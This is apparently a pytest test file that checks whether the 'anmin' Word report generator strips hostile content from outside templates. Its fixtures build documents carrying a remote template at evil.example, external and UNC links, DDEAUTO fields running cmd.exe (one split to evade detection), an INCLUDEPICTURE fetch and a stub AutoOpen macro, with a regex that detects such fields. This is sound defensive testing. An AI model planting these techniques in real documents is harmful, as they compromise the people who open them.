"""Issue 28 §2: a Word template from outside brings nothing into the output that reaches out or runs when
the file is opened — a remote template, external relationships (linked pictures, hyperlinks), macros, DDE
and INCLUDE fields — each attacked more than one way, against the installed `anmin`."""

import io
import re
import zipfile

import docx
import pytest

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
EVIL = "http://evil.example/x"
REPORT = ("report", "monthly", "2024-05")
NOTICE = ("report", "notice", "1.1", "--to", "乡文化站", "--date", "2024-06-03", "--preview")  # 1.1 names nobody: --to


def _base() -> bytes:
    document = docx.Document()
    document.add_paragraph("安民乡人民政府文件")
    document.add_paragraph("{{正文}}")
    document.sections[0].header.paragraphs[0].text = "版头"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _edit(content: bytes, changes: dict[str, object]) -> bytes:
    """``content`` with members replaced or added: a value is new bytes, or a function of the old text."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        names = src.namelist()
        for name in names:
            change = changes.get(name)
            data = src.read(name)
            if callable(change):
                data = change(data.decode("utf-8")).encode("utf-8")
            elif change is not None:
                data = change
            dst.writestr(name, data)
        for name, change in changes.items():
            if name not in names:
                dst.writestr(name, change if isinstance(change, bytes) else change("").encode("utf-8"))
    return out.getvalue()


def _rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def _add_rels(rels: str, *added: str) -> str:
    return rels.replace("</Relationships>", "".join(added) + "</Relationships>")


def _in_body(xml: str, *added: str) -> str:
    return xml.replace("<w:sectPr", "".join(added) + "<w:sectPr", 1)


def _para(inner: str) -> str:
    return f"<w:p>{inner}</w:p>"


HYPERLINK = _para('<w:hyperlink r:id="rIdEvil1"><w:r><w:t>链接文字</w:t></w:r></w:hyperlink>')
LINKED_PICTURE = _para(
    '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:extent cx="10" cy="10"/><wp:docPr id="9" name="p"/><a:graphic '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
    'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="9" name="p"/>'
    '<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdEvil2"/></pic:blipFill><pic:spPr/></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
)
DDE_SIMPLE = _para(
    '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"><w:r><w:t>域结果</w:t></w:r></w:fldSimple>'
)
# A complex field whose instruction is split over runs, so no single run says DDEAUTO.
DDE_SPLIT = _para(
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
    '<w:r><w:instrText xml:space="preserve">EAUTO "C:\\\\Programs\\\\cmd.exe" "/c calc"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>拆开的域</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
INCLUDE = _para(
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    f'<w:r><w:instrText xml:space="preserve"> includepicture "{EVIL}/p.png" \\d </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)


def _hostile_template(kind: str) -> bytes:
    """A template with one kind of attack, made the ways Word files carry it."""
    base = _base()
    rels = "word/_rels/document.xml.rels"
    if kind == "remote-template":
        settings = lambda xml: xml.replace("</w:settings>", '<w:attachedTemplate r:id="rIdT"/></w:settings>')  # noqa: E731
        return _edit(
            base,
            {
                "word/settings.xml": settings,
                "word/_rels/settings.xml.rels": lambda _: (
                    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
                    f'2006/relationships">{_rel("rIdT", "attachedTemplate", EVIL + "/t.dotm")}</Relationships>'
                ),
            },
        )
    if kind == "external":
        return _edit(
            base,
            {
                rels: lambda x: _add_rels(
                    x,
                    _rel("rIdEvil1", "hyperlink", EVIL),
                    _rel("rIdEvil2", "image", EVIL + "/i.png"),
                    _rel("rIdEvil3", "oleObject", "\\\\evil\\share\\x.xls"),
                ),
                "word/document.xml": lambda x: _in_body(x, HYPERLINK, LINKED_PICTURE),
            },
        )
    if kind == "macros":
        types = lambda x: x.replace(  # noqa: E731
            "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
        ).replace("wordprocessingml.document.main+xml", "wordprocessingml.document.main+xml")
        return _edit(
            base,
            {
                "[Content_Types].xml": types,
                rels: lambda x: _add_rels(
                    x,
                    '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/'
                    'relationships/vbaProject" Target="vbaProject.bin"/>',
                ),
                "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Attribute VB_Name AutoOpen Shell calc",
            },
        )
    if kind == "macro-enabled":  # a .docm: Word's own type for a document with macros
        docm = _hostile_template("macros")
        return _edit(
            docm,
            {
                "[Content_Types].xml": lambda x: x.replace(
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    "application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            },
        )
    if kind == "fields":
        header = next(n for n in zipfile.ZipFile(io.BytesIO(base)).namelist() if n.startswith("word/header"))
        return _edit(
            base,
            {
                "word/document.xml": lambda x: _in_body(x, DDE_SIMPLE, DDE_SPLIT, INCLUDE),
                header: lambda x: x.replace("</w:hdr>", DDE_SIMPLE + "</w:hdr>"),
            },
        )
    raise AssertionError(kind)


KINDS = ["remote-template", "external", "macros", "macro-enabled", "fields"]


def _xml_of(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return {n: z.read(n).decode("utf-8", "replace") for n in z.namelist()}


def assert_harmless(content: bytes) -> None:
    parts = _xml_of(content)
    assert not [n for n in parts if "vba" in n.lower() or n.endswith(".bin")], list(parts)
    everything = "\n".join(parts.values())
    assert 'TargetMode="External"' not in everything
    assert "evil" not in everything.lower()
    assert "attachedTemplate" not in everything
    assert not re.search(r"\bDDE(AUTO)?\b|\bINCLUDE(PICTURE|TEXT)?\b|calc", everything, re.IGNORECASE)
    assert "macroEnabled" not in parts["[Content_Types].xml"]


@pytest.mark.parametrize(
    ("kind", "command"),
    [(kind, "report") for kind in KINDS] + [pytest.param(kind, "notice", marks=pytest.mark.slow) for kind in KINDS],
)
@pytest.mark.slow  # 0.4 s on the 2-core CI host: the fast pass stays under 30 s
def test_a_hostile_template_gives_a_harmless_document_and_says_what_went(anmin, data_dir, tmp_path, kind, command):
    template = tmp_path / f"红头-{kind}.docx"
    template.write_bytes(_hostile_template(kind))
    out = tmp_path / "输出.docx"
    args = REPORT if command == "report" else NOTICE
    result = anmin(*args, "--template", str(template), "-o", str(out))
    assert result.returncode == 0, result.stderr
    assert "已删除" in result.stderr and "Traceback" not in result.stderr
    assert_harmless(out.read_bytes())
    body = docx.Document(str(out))  # still a Word file python-docx opens
    shown = "\n".join(p.text for p in body.paragraphs)
    assert "安民乡人民政府文件" in shown
    if kind == "external":
        assert "链接文字" in shown  # a hyperlink's text stays; its target goes
    if kind == "fields":
        assert "域结果" in shown and "拆开的域" in shown


@pytest.mark.slow  # 0.3 s on the 2-core CI host: the fast pass stays under 30 s
def test_a_plain_template_is_not_said_to_have_lost_anything(anmin, data_dir, tmp_path):
    template = tmp_path / "红头.docx"
    template.write_bytes(_base())
    result = anmin(*REPORT, "--template", str(template), "-o", str(tmp_path / "月报.docx"))
    assert result.returncode == 0 and "已删除" not in result.stderr, result.stderr


@pytest.mark.slow  # 0.3 s on the 2-core CI host: the fast pass stays under 30 s
def test_an_internal_hyperlink_and_an_ordinary_field_stay(anmin, data_dir, tmp_path):
    """Only what reaches outside goes: a bookmark link and a PAGE field are the template's own."""
    bookmark = _para('<w:hyperlink w:anchor="top"><w:r><w:t>回到顶部</w:t></w:r></w:hyperlink>')
    page = _para('<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>')
    template = tmp_path / "红头.docx"
    template.write_bytes(_edit(_base(), {"word/document.xml": lambda x: _in_body(x, bookmark, page)}))
    out = tmp_path / "月报.docx"
    result = anmin(*REPORT, "--template", str(template), "-o", str(out))
    assert result.returncode == 0 and "已删除" not in result.stderr, result.stderr
    xml = _xml_of(out.read_bytes())["word/document.xml"]
    assert 'w:anchor="top"' in xml and 'w:instr=" PAGE "' in xml
